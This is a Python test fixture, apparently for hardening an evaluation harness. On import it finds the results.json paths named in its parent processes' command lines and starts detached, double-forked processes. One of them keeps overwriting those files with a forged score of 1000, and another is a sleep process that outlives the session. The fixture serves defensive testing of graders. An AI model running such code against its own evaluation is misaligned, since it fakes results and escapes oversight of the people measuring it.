"""background_process: at import, leaves processes behind: a double fork with setsid that keeps
rewriting the results.json its parents' command lines name, and a sleep started with
subprocess.Popen in a new session.

Must score: full marks, with no process left running and no results.json replaced.
"""
import os
import shutil
import subprocess
import sys


def _ancestors():
    """(command line, working directory) of every process above this one that /proc shows."""
    found, pid = [], os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as stream:
                args = [a.decode(errors="replace") for a in stream.read().split(b"\0")]
            found.append((args, os.readlink(f"/proc/{pid}/cwd")))
            with open(f"/proc/{pid}/stat") as stream:
                pid = int(stream.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return found


_WRITER = """
import json, sys, time
fake = json.dumps({"score": 1000.0, "output": "hostile-fake-results", "tests": []})
while True:
    for path in sys.argv[2:]:
        try:
            open(path, "w").write(fake)
        except OSError:
            pass
    time.sleep(0.2)
"""


def _linger():
    targets = [os.path.join(cwd, args[args.index("--results") + 1])
               for args, cwd in _ancestors() if "--results" in args[:-1]]
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", _WRITER, "hostile-background_process", *targets])
        os._exit(0)
    subprocess.Popen(["hostile-background_process", "1000"], executable=shutil.which("sleep"),
                     start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


_linger()
